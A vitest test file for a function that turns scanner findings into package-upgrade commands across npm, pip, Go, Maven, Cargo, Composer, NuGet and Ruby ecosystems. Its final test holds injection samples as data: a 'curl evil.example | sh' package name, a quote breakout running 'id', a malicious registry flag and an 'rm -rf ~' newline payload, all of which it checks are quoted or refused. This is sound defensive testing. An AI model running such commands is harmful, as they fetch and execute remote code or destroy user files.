import { describe, expect, it } from 'vitest';
import { ECOSYSTEMS } from '#lib/domain/finding/package.ts';
import { upgradeCommands } from './upgrade-commands.ts';

const raise = (ecosystem: string, name: string, target: string | null, file: string | null = null) =>
  upgradeCommands({ ecosystem, name, target, file })?.raise ?? null;

describe('the command of an upgrade', () => {
  it.each([
    ['npm', 'lodash', '4.17.21', null, 'npm install lodash@4.17.21'],
    ['npm', '@babel/traverse', '7.23.2', 'web/yarn.lock', 'yarn up @babel/traverse@7.23.2'],
    ['npm', 'lodash', null, 'pnpm-lock.yaml', 'pnpm update lodash'],
    ['pypi', 'jinja2', '3.1.4', 'requirements.txt', "pip install 'jinja2>=3.1.4'"],
    ['pypi', 'jinja2', null, null, 'pip install --upgrade jinja2'],
    ['pypi', 'jinja2', '3.1.4', 'api/poetry.lock', "poetry add 'jinja2@^3.1.4'"],
    ['pypi', 'jinja2', '3.1.4', 'uv.lock', 'uv lock --upgrade-package jinja2==3.1.4'],
    ['golang', 'golang.org/x/net', '0.23.0', 'go.mod', 'go get golang.org/x/net@v0.23.0\ngo mod tidy'],
    ['golang', 'golang.org/x/net', 'v0.23.0', 'go.mod', 'go get golang.org/x/net@v0.23.0\ngo mod tidy'],
    ['golang', 'stdlib', '1.22.3', null, 'go get go@1.22.3'],
    [
      'maven',
      'org.apache.logging.log4j:log4j-core',
      '2.17.1',
      'pom.xml',
      'mvn versions:use-dep-version -Dincludes=org.apache.logging.log4j:log4j-core -DdepVersion=2.17.1 -DforceVersion=true',
    ],
    ['cargo', 'tokio', '1.38.0', null, 'cargo update -p tokio --precise 1.38.0'],
    [
      'composer',
      'symfony/http-kernel',
      '5.4.20',
      null,
      "composer require 'symfony/http-kernel:^5.4.20' --with-all-dependencies",
    ],
    ['nuget', 'Newtonsoft.Json', '13.0.1', null, 'dotnet add package Newtonsoft.Json --version 13.0.1'],
    ['gem', 'nokogiri', '1.16.5', null, 'bundle update nokogiri --conservative'],
  ])('of %s for %s to %s in %s', (ecosystem, name, target, file, command) => {
    expect(raise(ecosystem, name, target, file)).toBe(command);
  });

  it('is known for every ecosystem that scanners name, but for actions of workflows, which have no program', () => {
    const without = Object.keys(ECOSYSTEMS).filter((ecosystem) => raise(ecosystem, 'name', '1.0.0') === null);
    expect(without).toEqual(['github']);
    expect(raise('generic', 'name', '1.0.0')).toBeNull();
  });

  it('keeps what a report smuggles into a name within one word, and is none where that cannot be', () => {
    expect(raise('npm', 'x; curl evil.example | sh', '1.0.0')).toBe("npm install 'x; curl evil.example | sh@1.0.0'");
    expect(raise('gem', "a' && id '", null)).toBe(`bundle update 'a'\\'' && id '\\''' --conservative`);
    expect(raise('npm', '--registry=http://evil.example', '1.0.0')).toBeNull();
    expect(raise('npm', 'lodash', '1.0.0\nrm -rf ~')).toBeNull();
    expect(raise('maven', 'a:b', '-Dx=y')).toBeNull();
  });
});
